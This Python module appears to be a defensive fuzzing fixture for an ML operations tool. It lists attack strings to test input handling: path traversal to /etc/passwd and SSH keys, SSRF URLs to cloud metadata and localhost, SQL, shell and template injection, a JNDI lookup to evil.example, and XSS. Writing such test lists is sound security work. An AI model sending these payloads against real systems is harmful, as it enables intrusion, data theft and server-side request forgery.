"""Strings that somebody sends who wants out: to another file, another host, another command, or to a defect of ours.

`{canary}` stands for a folder outside of what a command may touch, `{port}` for a port on which nobody may call.
"""

TRAVERSAL = (
    "..", ".", "...", "../", "../..", "../../canary/secret.txt", "../../../../../../../../etc/passwd", "..//..//canary",
    "./../../canary/secret.txt", "x/../../../canary/secret.txt", "....//....//canary", "..;/..;/canary", "..\\..\\canary",
    "..\\", "x\\..\\..\\canary", "/../canary", "/..", "/", "//", "///etc/passwd", "/etc/passwd", "{canary}",
    "{canary}/secret.txt", "{canary}/new", "~", "~/canary", "~root/.ssh/id_rsa", "~nobody-there/x", "/proc/self/environ",
    "/proc/self/root{canary}/secret.txt", "/dev/stdin", "/dev/zero/x", "C:\\Windows\\win.ini", "C:/Windows/win.ini",
    "\\\\evil.example\\share\\x", "//evil.example/share/x", "\\\\?\\C:\\x", "CON", "aux.", "x/.", "x/..", "x//y", "x/", "/x",
    ".git/config", ".env", ".dvc/config", "-", "--help", "-rf", "--exec=id",
)  # fmt: skip
ENCODED = (
    "%2e%2e%2f%2e%2e%2fcanary", "%2e%2e/", "..%2f..%2fcanary", "..%5c..%5ccanary", "%252e%252e%252fcanary", "..%252fcanary",
    "%c0%ae%c0%ae%c0%afcanary", "..%c0%af..%c0%afcanary", "..%ef%bc%8fcanary", "%00", "x%00.png", "%0a", "%0d%0aX-Evil: 1",
    "\u2024\u2024/canary", "\uff0e\uff0e\uff0fcanary", "\u2025/canary", "..\u2215canary", "..\u2044canary", "\u202etxt.x",
    "\ufeffx", "x\u200b", "\u0430dmin", "\u0663", "\u00b2", "\ud800", "\udc80\udcff", "e\u0301" * 300,
)  # fmt: skip
CONTROL = (
    "x\x00", "\x00", "x\x00../../canary", "x\ny", "\n[remote \"evil\"]\nurl = {canary}", "x\r\nSet-Cookie: a=b", "x\ty",
    "\x1b[2J\x1b]0;evil\x07", "\x7f", "\x85x", "x\u2028y", " ", "x" * 129, "x" * 5000, "x/" * 3000, "../" * 3000, "9" * 5000,
    "-1", "0", "1e9", "99999999999999999999",
)  # fmt: skip
URLS = (
    "http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/", "http://metadata.google.internal/",
    "http://127.0.0.1:{port}/", "http://localhost:{port}/", "http://0:{port}/", "http://0.0.0.0:{port}/",
    "http://2130706433:{port}/", "http://0x7f000001:{port}/", "http://0177.0.0.1:{port}/", "http://127.1:{port}/",
    "http://[::1]:{port}/", "http://[::ffff:127.0.0.1]:{port}/", "http://[0:0:0:0:0:ffff:7f00:1]:{port}/",
    "http://allowed.example@127.0.0.1:{port}/", "http://allowed.example:x@127.0.0.1:{port}/",
    "http://127.0.0.1:{port}\\@allowed.example/", "http://127.0.0.1:{port}#@allowed.example/",
    "http://127.0.0.1:{port}?@allowed.example/", "http://127.0.0.1:{port};@allowed.example/",
    "http://127.0.0.1:{port}%23@allowed.example/", "http://allowed.example.127.0.0.1.evil.example:{port}/",
    "http://allowed.example%00@127.0.0.1:{port}/", "http://allowed.example\t@127.0.0.1:{port}/",
    "http:///127.0.0.1:{port}/", "http:/\\127.0.0.1:{port}/", "http:\\\\127.0.0.1:{port}\\", "//127.0.0.1:{port}/",
    "http://\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3:{port}/", "http://127\u3002" "0\u30020\u30021:{port}/",
    "http://allowed.example.@127.0.0.1:{port}", "http://", "http://[", "http://:80", "http://x:99999/", "http://.example/",
    "http://" + "a" * 300 + "/", "HTTP://EVIL.EXAMPLE/", "https://127.0.0.1:{port}/", "file:///etc/passwd",
    "file://{canary}/secret.txt", "file:secret.txt", "gopher://127.0.0.1:{port}/_x", "ftp://127.0.0.1:{port}/",
    "dict://x:11211/",
    "ldap://127.0.0.1:{port}/", "jar:http://evil.example!/", "data:text/plain,x", "javascript:alert(1)",
    "git+ssh://evil.example/", "netdoc:///etc/passwd",
)  # fmt: skip
INJECTION = (
    "models:/x/1", "models:/../../canary", "runs:/0/../../canary", "mlflow-artifacts:/../../canary", "dbfs:/x",
    "s3://evil-bucket/x", "s3://../x", "arn:aws:s3:us-east-1:123456789012:accesspoint/evil", "sqlite:///{canary}/new.db",
    "x@champion@evil", "x@latest", "@", "@champion", "x/1/2", "x/1@champion", "x@../../canary", "' OR '1'='1",
    "x' OR name LIKE '%",    "'; DROP TABLE ledger; --", "\" OR 1=1", "`id`", "$(touch {canary}/new)",
    "; touch {canary}/new", "| touch {canary}/new",
    "&& id", "${{HOME}}", "$HOME", "%(home)s", "{{{{7*7}}}}", "{{0.__class__}}", "${{jndi:ldap://evil.example/a}}",
    "<script>alert(1)</script>",    "[bold red]x[/]", "\\[/]", "[/]", "%", "_%", "*", "?", "x?mode=memory", "x#y",
    "os:system", "os.path:join", "..os:system",
    "openmlops.errors:one_line", "a b:c", ":", "a:", ":a", "*.*:*",
)  # fmt: skip
STRINGS = tuple(dict.fromkeys((*TRAVERSAL, *ENCODED, *CONTROL, *URLS, *INJECTION)))


def filled(text: str, canary: str, port: int) -> str:
    """The string with the canary's folder and port in it."""
    return text.replace("{canary}", canary).replace("{port}", str(port)).replace("{{", "{").replace("}}", "}")
